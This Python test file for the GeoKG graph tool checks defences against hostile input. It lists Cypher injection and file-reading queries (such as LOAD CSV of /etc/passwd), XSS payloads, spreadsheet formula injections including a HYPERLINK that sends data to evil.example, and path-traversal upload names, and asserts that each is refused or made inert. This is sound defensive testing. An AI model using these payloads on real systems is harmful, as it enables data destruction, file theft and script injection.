"""Issue #7, "Injection": hostile input meets every store on both backends (the embedded
LadybugDB file and a real Neo4j), the query console, the drawn and exported HTML, and the
paths GeoKG writes to. Each table row is one attack; each test says what the user would see.
"""

from __future__ import annotations

import json
import time
from pathlib import Path

import networkx as nx
import pytest
from console_support import attack_folder, snapshot
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from geokg.graph.analysis.export import export_graph
from geokg.graph.analysis.viz import network_html, network_view
from geokg.graph.errors import GeoKGError, QueryError, ReadOnlyViolation
from geokg.graph.model import Article, Entity, Event, Fragment, Relation, stable_id
from geokg.graph.stores.writer import write_fragments
from geokg.ui.uploads import upload_path
from graph_fixtures import BLR, EU, LUKA, XI, seed_fragment

# --- 1. values travel as parameters: hostile text comes back verbatim ----------------------------

HOSTILE_TEXT = [
    'O\'Brien "the" \\ } {',
    "x // y /* z */ $param $0 {id: $id}",
    "'}) MATCH (n) DETACH DELETE n //",
    "\\'); CREATE (:Country {id: 'PWN'}) RETURN 1 //",
    '"}]->(x) SET x.name = "pwned" WITH 1 AS one MATCH (n) DETACH DELETE n',
    "`backtick` ``double`` CALL db.labels() YIELD label",
    "LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row",
    "名前 עברית 🙂 \u202eRTL override\u202c \x00nul",
]


def hostile_fragment(text: str) -> Fragment:
    """One article whose every free-text field, and the person's key, is ``text``."""
    person = Entity("Person", text, text, (text, f"alias {text}"), {"role": text, "country": "BLR"})
    art = Article("hostile-" + stable_id(text), title=text, url=text, published="2023-05-01", source=text)
    event = Event(stable_id(text, "ev"), "SANCTION", (person.ref,), (BLR.ref,), text, "2023-05-01")
    return Fragment(art, (person, BLR), (Relation("LEADS", person.ref, BLR.ref, text, "2023-05-01", role=text),), (event,))


def read_back(store, text: str) -> dict:
    ref = Entity("Person", text, text).ref
    node = store.entity(ref)
    art = store.latest_articles().iloc[0]
    return {"name": node["name"], "aliases": sorted(node["aliases"]), "role": node["role"],
            "found by search": list(store.search(text.lower()[:40], labels=["Person"]).ref),
            "relation evidence": list(store.relations(types=["LEADS"]).evidence),
            "event evidence": list(store.events().evidence),
            "article": (art.title, art.url, art.source),
            "nodes": store.stats()["nodes"]}


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_hostile_text_in_every_field_is_stored_and_read_back_verbatim(store, text):
    write_fragments(store, [hostile_fragment(text)])
    ref = Entity("Person", text, text).ref
    assert read_back(store, text) == {
        "name": text, "aliases": sorted([text, f"alias {text}"]), "role": text, "found by search": [ref],
        "relation evidence": [text], "event evidence": [text], "article": (text, text, text),
        "nodes": {"Country": 1, "Person": 1, "Event": 1, "Article": 1}}


VOCABULARY_ESCAPES = {
    "neighbourhood": lambda s: s.neighbourhood([BLR.ref], types=["LEADS]-() DETACH DELETE n //"]),
    "paths": lambda s: s.paths(XI.ref, EU.ref, types=["MEET|SANCTION*]-() WITH 1 AS x MATCH (n) DETACH DELETE n //"]),
    "relations": lambda s: s.relations(types=["LEADS`]->() DETACH DELETE n //"]),
    "events": lambda s: s.events(types=["SANCTION' OR 1=1 //"]),
    "delete_relation": lambda s: s.delete_relation(LUKA.ref, "LEADS]->(x) DETACH DELETE x //", BLR.ref),
    "mark_reviewed": lambda s: s.mark_reviewed(LUKA.ref, "LEADS {x:1}]->(b) SET b.name='p' //", BLR.ref),
    "entity label": lambda s: s.entity("country) DETACH DELETE (n:x"),
    "alias on a forged label": lambda s: s.add_alias("Country) DETACH DELETE (n:Country", "x"),
}


@pytest.mark.parametrize("call", VOCABULARY_ESCAPES.values(), ids=VOCABULARY_ESCAPES.keys())
def test_labels_and_types_outside_the_vocabulary_are_refused_and_nothing_changes(store, call):
    write_fragments(store, [seed_fragment()])
    before = snapshot(store)
    with pytest.raises((ValueError, GeoKGError)):
        call(store)
    assert snapshot(store) == before


# --- 2. the console is read-only for real -------------------------------------------------------

#: (why, query): every one must be refused on both backends with the graph unchanged.
#: ``{tmp}`` is the test's own folder: nothing may appear there either.
REFUSED = [
    ("create", "CREATE (:Country {id: 'ZZZ', name: 'Nowhere'})"),
    ("merge", "MERGE (:Country {id: 'ZZZ'})"),
    ("set", "MATCH (c:Country {id: 'BLR'}) SET c.name = 'Changed'"),
    ("remove", "MATCH (c:Country {id: 'BLR'}) REMOVE c.iso2"),
    ("delete", "MATCH (:Country)-[r:BORDERS]->() DELETE r"),
    ("detach delete", "MATCH (c:Country {id: 'BLR'}) DETACH DELETE c"),
    ("foreach", "MATCH (c:Country) FOREACH (x IN [1] | SET c.name = 'x')"),
    ("write late in a read", "MATCH (c:Country) WITH c, 1 AS one WHERE one = 1 DETACH DELETE c"),
    ("write after a line comment", "MATCH (c:Country) // just reading\nSET c.name = 'x'"),
    ("write after a block comment", "MATCH (c:Country) /* RETURN c */ DETACH DELETE c"),
    ("write after an escaped quote", "MATCH (c:Country) WHERE c.name <> 'it\\'s' DETACH DELETE c"),
    ("keyword glued to a number", "MATCH (c:Country) WITH c, 1AS x DETACH DELETE c"),
    ("second statement", "MATCH (c:Country) RETURN c.id; MATCH (c:Country) DETACH DELETE c"),
    ("full-width look-alike", "MATCH (c:Country) ＤＥＴＡＣＨ ＤＥＬＥＴＥ c"),
    ("cyrillic look-alike", "MATCH (c:Country) S\u0415T c.name = 'x'"),
    ("non-breaking space", "MATCH (c:Country)\u00a0DETACH DELETE c"),
    ("zero-width space in a keyword", "MATCH (c:Country) DE\u200bLETE c"),
    ("use another database", "USE neo4j MATCH (c:Country) DETACH DELETE c"),
    ("use clause that reads", "USE system SHOW USERS"),
    ("neo4j load csv", "LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row"),
    ("ladybug load from a file", "LOAD FROM '/etc/passwd' (file_format='csv', header=false, delim=':') RETURN *"),
    ("ladybug copy from", "COPY Country FROM '/etc/hosts'"),
    ("ladybug copy to a file", "COPY (MATCH (c:Country) RETURN c.name) TO '{tmp}/leak.csv'"),
    ("ladybug attach", "ATTACH '{tmp}/other.lbdb' AS other (dbtype lbug)"),
    ("ladybug install downloads code", "INSTALL httpfs"),
    ("ladybug load extension", "LOAD EXTENSION json"),
    ("ladybug export database", "EXPORT DATABASE '{tmp}/dump'"),
    ("ladybug import database", "IMPORT DATABASE '{tmp}/dump'"),
    ("ladybug checkpoint", "CHECKPOINT"),
    ("begin a transaction", "BEGIN TRANSACTION"),
    ("ladybug lifts its own timeout", "CALL timeout=0"),
    ("ladybug file search path", "CALL file_search_path='/etc'"),
    ("neo4j write procedure", "CALL db.createLabel('Pwned')"),
    ("neo4j dbms procedure", "CALL dbms.listConfig()"),
    ("neo4j side-effect procedure", "CALL db.clearQueryCaches()"),
    ("neo4j starts collecting queries", "CALL db.stats.collect('QUERIES')"),
    ("write procedure in a subquery", "CALL () { CALL db.createLabel('Pwned') } RETURN 1 AS one"),
    ("write in transactions", "MATCH (c:Country) CALL (c) { DETACH DELETE c } IN TRANSACTIONS"),
    ("read in transactions", "CALL () { MATCH (c:Country) RETURN c } IN TRANSACTIONS RETURN c.id"),
    ("terminate transactions", "TERMINATE TRANSACTIONS 'neo4j-transaction-1'"),
    ("show other queries", "SHOW TRANSACTIONS"),
    ("create a user", "CREATE USER pwned SET PASSWORD 'secret-pw'"),
    ("create an index", "CREATE INDEX pwned IF NOT EXISTS FOR (n:Country) ON (n.name)"),
    ("profile runs the write", "PROFILE MATCH (c:Country) DETACH DELETE c"),
    ("explain of a write", "EXPLAIN CREATE (:Country {id: 'ZZZ'})"),
]


@pytest.mark.parametrize("query", [q for _, q in REFUSED], ids=[w for w, _ in REFUSED])
def test_console_refuses_and_the_graph_is_unchanged(store, tmp_path, query):
    target = attack_folder(tmp_path)
    write_fragments(store, [seed_fragment()])
    before = snapshot(store)
    with pytest.raises(ReadOnlyViolation) as refused:
        store.cypher(query.replace("{tmp}", str(target)))
    message = str(refused.value)
    assert snapshot(store) == before
    assert "read-only" in message
    assert "\n" not in message
    assert list(target.iterdir()) == []
    assert store.cypher("MATCH (c:Country) RETURN count(c) AS n").n.tolist() == [4]  # and the console still answers


#: Refused by the engine walls alone (the text check switched off): Neo4j's EXPLAIN (query type
#: and plan) and READ transaction; LadybugDB's EXPLAIN plan and read-only handle.
ENGINE_WALLS = {
    "neo4j": ["CREATE (:Country {id: 'ZZZ'})", "MATCH (c:Country) // c\nDETACH DELETE c",
              "LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row", "CALL db.createLabel('Pwned')",
              "CALL db.clearQueryCaches()", "CALL db.stats.collect('QUERIES')",
              "MATCH (c:Country) CALL (c) { DETACH DELETE c } IN TRANSACTIONS",
              "CALL () { MATCH (c:Country) RETURN c } IN TRANSACTIONS RETURN c.id",
              "TERMINATE TRANSACTIONS 'neo4j-transaction-1'", "SHOW TRANSACTIONS",
              "USE neo4j MATCH (c:Country) DETACH DELETE c"],
    "embedded": ["CREATE (:Country {id: 'ZZZ'})", "MATCH (c:Country) // c\nDETACH DELETE c",
                 "LOAD FROM '/etc/passwd' (file_format='csv', header=false, delim=':') RETURN *",
                 "COPY (MATCH (c:Country) RETURN c.name) TO '{tmp}/leak.csv'", "CALL timeout=0", "INSTALL httpfs",
                 "CHECKPOINT", "BEGIN TRANSACTION", "ATTACH '{tmp}/other.lbdb' AS other (dbtype lbug)",
                 "MATCH (c:Country) RETURN c.id; COPY (RETURN 1) TO '{tmp}/leak.csv'"],
}


@pytest.mark.parametrize("n", range(max(map(len, ENGINE_WALLS.values()))))
def test_engine_walls_alone_still_refuse(store, tmp_path, monkeypatch, n):
    import geokg.graph.stores.embedded
    import geokg.graph.stores.neo4j_store

    queries = ENGINE_WALLS[store.backend]
    if n >= len(queries):
        return  # this backend's table is shorter
    target = attack_folder(tmp_path)
    write_fragments(store, [seed_fragment()])
    before = snapshot(store)
    for module in (geokg.graph.stores.embedded, geokg.graph.stores.neo4j_store):
        monkeypatch.setattr(module, "check_console_query", lambda q: None)
    with pytest.raises(ReadOnlyViolation):
        store.cypher(queries[n].replace("{tmp}", str(target)))
    assert snapshot(store) == before
    assert list(target.iterdir()) == []


#: Queries that only look dangerous: keywords inside strings, comments, property names,
#: aliases and quoted names, and the schema look-ups the console allows.
ALLOWED = [
    ("MATCH (c:Country) WHERE c.name <> 'CREATE; DETACH DELETE c' RETURN count(c) AS n", [[4]]),
    ("MATCH (c:Country) // DETACH DELETE c\nRETURN count(c) AS n", [[4]]),
    ("MATCH (c:Country) /* SET c.name = 'x'; */ RETURN count(c) AS n", [[4]]),
    ("MATCH (c:Country {id: 'BLR'}) RETURN c.name AS `DELETE`, 'it\\'s \"fine\" // ok' AS load",
     [["Belarus", "it's \"fine\" // ok"]]),
    ("MATCH (c:Country {id: $id}) RETURN c.name AS name", [["Belarus"]]),
    ("MATCH (c:Country {id: 'BLR'}) RETURN 'Беларусь 🙂' AS name, c.id AS id", [["Беларусь 🙂", "BLR"]]),
    ("MATCH (p:Person)-[r:LEADS]->(c:Country) RETURN type(r) AS t, count(*) AS n", [["LEADS", 2]]),
]


@pytest.mark.parametrize("query,rows", ALLOWED)
def test_console_runs_reads_that_only_look_dangerous(store, query, rows):
    write_fragments(store, [seed_fragment()])
    assert store.cypher(query, {"id": "BLR"}).values.tolist() == rows


def test_console_allows_schema_lookups(store):
    write_fragments(store, [seed_fragment()])
    query = "CALL db.labels() YIELD label RETURN count(label) AS n" if store.backend == "neo4j" else \
        "CALL show_tables() RETURN count(*) AS n"
    assert store.cypher(query).n.tolist()[0] >= 6


def test_unclosed_quote_is_a_one_line_query_error(store):
    with pytest.raises(QueryError, match="unclosed ' quote opened at line 1, column 34"):
        store.cypher("MATCH (c:Country) WHERE c.name = 'x RETURN c")


CARTESIAN = ("MATCH (a), (b), (c), (d), (e), (f), (g), (h) "
             "WHERE a.id + b.id + c.id + d.id + e.id + f.id + g.id + h.id <> 'x' RETURN count(*) AS n")


def test_cartesian_product_stops_at_the_time_limit(store):
    write_fragments(store, [seed_fragment()])  # 13 nodes: 13^8 = 815 million rows to concatenate
    start = time.monotonic()
    with pytest.raises(QueryError, match="time limit"):
        store.cypher(CARTESIAN, timeout=1.0)
    # Neo4j checks transaction deadlines every 2 s; the full query takes minutes
    assert time.monotonic() - start < 15


def test_large_result_comes_back_truncated_at_the_row_cap(store):
    df = store.cypher("UNWIND range(1, 1000000) AS x RETURN x", row_cap=500)
    assert df.x.tolist() == list(range(1, 501))
    assert df.attrs["truncated"]


# --- 3. article text never becomes markup ------------------------------------------------------

XSS = ["<script>window.__xss = 1</script>", "<img src=x onerror=\"window.__xss=2\">", "javascript:alert(1)",
       "\"><svg onload=alert(3)>", "</script><script>alert(4)</script>", "<a href=\"javascript:alert(5)\">href</a>"]


def xss_graph() -> nx.MultiDiGraph:
    g = nx.MultiDiGraph()
    for i, p in enumerate(XSS):
        g.add_node(f"person:{p}", name=p, label="Person", role=p, country=p, mentions=1)
        g.add_node(f"org:{i}{p}", name=f"org {p}", label="Organization", kind=p)
        g.add_edge(f"person:{p}", f"org:{i}{p}", key="MEMBER_OF", type="MEMBER_OF", evidence=p, origins=[p],
                   first_seen=p, articles=[p])
    return g


def executable_markup(doc: str, baseline: str) -> list[str]:
    """What in ``doc`` a browser would run or follow beyond what the same drawing of harmless
    names (``baseline``) has: extra script elements, on* attributes, javascript:/data: URLs in
    href/src/action, and any payload appearing raw (unescaped) in the text."""
    tree, base = lxml_html.fromstring(doc), lxml_html.fromstring(baseline)
    found = [f"{len(tree.xpath('//script'))} scripts"] if len(tree.xpath("//script")) != len(base.xpath("//script")) else []
    for el in tree.iter():
        if not isinstance(el.tag, str):
            continue
        found += [f"{el.tag} {k}" for k in el.attrib if k.lower().startswith("on")]
        found += [f"{el.tag} {k}={v}" for k, v in el.attrib.items() if k.lower() in ("href", "src", "action", "formaction")
                  and v.strip().lower().startswith(("javascript:", "data:"))]
    found += [f"raw: {p}" for p in XSS if "<" in p and p in doc]
    return found


def harmless(g: nx.MultiDiGraph) -> nx.MultiDiGraph:
    """``g`` with every text replaced by a plain word: the baseline drawing."""
    names = {n: f"n{i}" for i, n in enumerate(g)}
    h = nx.MultiDiGraph()
    h.add_nodes_from((names[n], {"name": names[n], "label": d.get("label")}) for n, d in g.nodes(data=True))
    h.add_edges_from((names[u], names[v], k, {"type": d.get("type")}) for u, v, k, d in g.edges(keys=True, data=True))
    return h


def test_network_html_carries_no_executable_payload():
    g = xss_graph()
    html = network_html(g)
    assert executable_markup(html, network_html(harmless(g))) == []
    assert "innerHTML = nodeData" not in html
    assert "innerHTML = edgeData" not in html


def test_capped_static_view_and_its_note_carry_no_executable_payload():
    g = xss_graph()
    for i in range(400):  # more than a view draws: the note and the static layout come into play
        g.add_node(f"country:X{i}", name=f"<b onmouseover=alert({i})>c{i}</b>", label="Country")
        g.add_edge(f"country:X{i}", f"person:{XSS[0]}", key="BORDERS", type="BORDERS")
    view = network_view(g)
    assert view.hidden > 0
    assert executable_markup(view.html, network_view(harmless(g)).html) == []


@pytest.mark.parametrize("fmt", ["graphml", "json", "csv"])
def test_exported_files_keep_payloads_as_inert_text(store, tmp_path, fmt):
    import pandas as pd

    payload = XSS[1]
    write_fragments(store, [hostile_fragment(payload)])
    out = store.export(fmt, tmp_path / ("csv" if fmt == "csv" else f"g.{fmt}"))
    if fmt == "graphml":  # XML: the payload is escaped character data, never an element
        names = {d.get("name") for _, d in nx.read_graphml(out).nodes(data=True)}
        raw = "<img" in out.read_text(encoding="utf-8")
    elif fmt == "json":
        names, raw = {n.get("name") for n in json.loads(out.read_text(encoding="utf-8"))["nodes"]}, False
    else:
        names, raw = set(pd.read_csv(out / "nodes.csv").name), False
    assert payload in names
    assert not raw


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]


def test_csv_export_keeps_spreadsheet_formulas_from_articles_as_text(store, tmp_path):
    import pandas as pd

    for i, formula in enumerate(FORMULAS):
        a = Article(Article.make_id(f"https://example.org/f{i}", ""), "t", url=f"https://example.org/f{i}",
                    published="2024-01-01")
        p = Entity("Person", f"formula-{i}", formula, (), {"country": "BLR"})
        write_fragments(store, [Fragment(a, (p, BLR), (Relation("LEADS", p.ref, BLR.ref, formula, "2024-01-01"),), ())])
    out = store.export("csv", tmp_path / "csv")
    names = set(pd.read_csv(out / "nodes.csv", keep_default_na=False).name)
    evidence = set(pd.read_csv(out / "relationships.csv", keep_default_na=False).evidence)
    inert = {"'" + f for f in FORMULAS}
    assert inert <= names
    assert inert <= evidence
    assert not any(f in names | evidence for f in FORMULAS)


# --- 4. paths: uploads stay in their folder, exports go where they should ------------------------

UPLOAD_NAMES = [
    ("../../etc/x.txt", "x.txt"),
    ("/etc/passwd", "passwd"),
    ("..\\..\\windows\\win.ini", "win.ini"),
    ("C:\\Users\\me\\feed.xml", "feed.xml"),
    ("a\x00b.txt", "a_b.txt"),
    ("..", "upload"),
    (".", "upload"),
    ("", "upload"),
    ("/", "upload"),
    (".bashrc", "bashrc"),
    ("...hidden.txt", "hidden.txt"),
    ("report 2023 (final).html", "report_2023_final_.html"),
    ("évènement.md", "_v_nement.md"),
    ("x" * 300 + ".jsonl", "x" * 110 + ".jsonl"),
]


@pytest.mark.parametrize("name,stored", UPLOAD_NAMES)
def test_uploaded_file_is_stored_under_its_basename_in_the_upload_folder(tmp_path, name, stored):
    assert upload_path(tmp_path, name, set()) == tmp_path / stored


def test_two_uploads_with_one_name_do_not_overwrite_each_other(tmp_path):
    taken: set[str] = set()
    paths = [upload_path(tmp_path, n, taken) for n in ("a.txt", "../a.txt", "/x/a.txt")]
    assert [p.name for p in paths] == ["a.txt", "a-2.txt", "a-3.txt"]


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_no_upload_name_escapes_the_upload_folder(name):
    folder = Path("/srv/uploads")
    path = upload_path(folder, name, set())
    assert path.parent == folder
    assert path.name not in ("", ".", "..")
    assert len(path.name) <= 120
    assert path.name.isascii()


EXPORT_PATHS = {
    "into a folder that does not exist": ("json", lambda t: t / "missing" / "g.json", "does not exist"),
    "over a folder": ("graphml", lambda t: t, "is a folder"),
    "csv over a file": ("csv", lambda t: (t / "f.txt").write_text("x") and t / "f.txt", "is a file"),
    "csv into a folder holding other files": ("csv", lambda t: (t / "keep.txt").write_text("x") and t, "other files"),
    "under a file": ("json", lambda t: (t / "f.txt").write_text("x") and t / "f.txt" / "g.json", "not a folder"),
}


@pytest.mark.parametrize("fmt,where,reason", EXPORT_PATHS.values(), ids=EXPORT_PATHS.keys())
def test_export_to_a_bad_path_is_refused_with_one_line_and_writes_nothing(tmp_path, fmt, where, reason):
    out = where(tmp_path)
    before = sorted(p.name for p in tmp_path.rglob("*"))
    with pytest.raises(GeoKGError) as refused:
        export_graph(xss_graph(), fmt, out)
    assert reason in str(refused.value)
    assert "\n" not in str(refused.value)
    assert sorted(p.name for p in tmp_path.rglob("*")) == before


def test_csv_export_may_overwrite_its_own_earlier_output(tmp_path):
    g = xss_graph()
    out = export_graph(g, "csv", tmp_path / "out")
    g.add_node("country:NEW", name="New", label="Country")
    export_graph(g, "csv", out)
    assert (out / "nodes.csv").read_text(encoding="utf-8").count("country:NEW") == 1


def test_failed_export_leaves_the_earlier_file_whole(tmp_path):
    out = tmp_path / "g.json"
    export_graph(xss_graph(), "json", out)
    before = out.read_text(encoding="utf-8")
    bad = nx.MultiDiGraph()
    bad.add_node("a", weird=object())  # cannot be written as GraphML: the write fails half-way
    with pytest.raises(GeoKGError):
        export_graph(bad, "graphml", out)
    assert out.read_text(encoding="utf-8") == before
    assert [p.name for p in tmp_path.iterdir()] == ["g.json"]


def test_unsafe_url_never_becomes_a_link():
    from geokg.ui.state import safe_url

    assert [safe_url(u) for u in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:x", "data:text/html,<b>",
                                  "https://ok.example/a?b=c", "http://x/\"onmouseover=alert(1)")] == \
        [None, None, None, None, "https://ok.example/a?b=c", None]
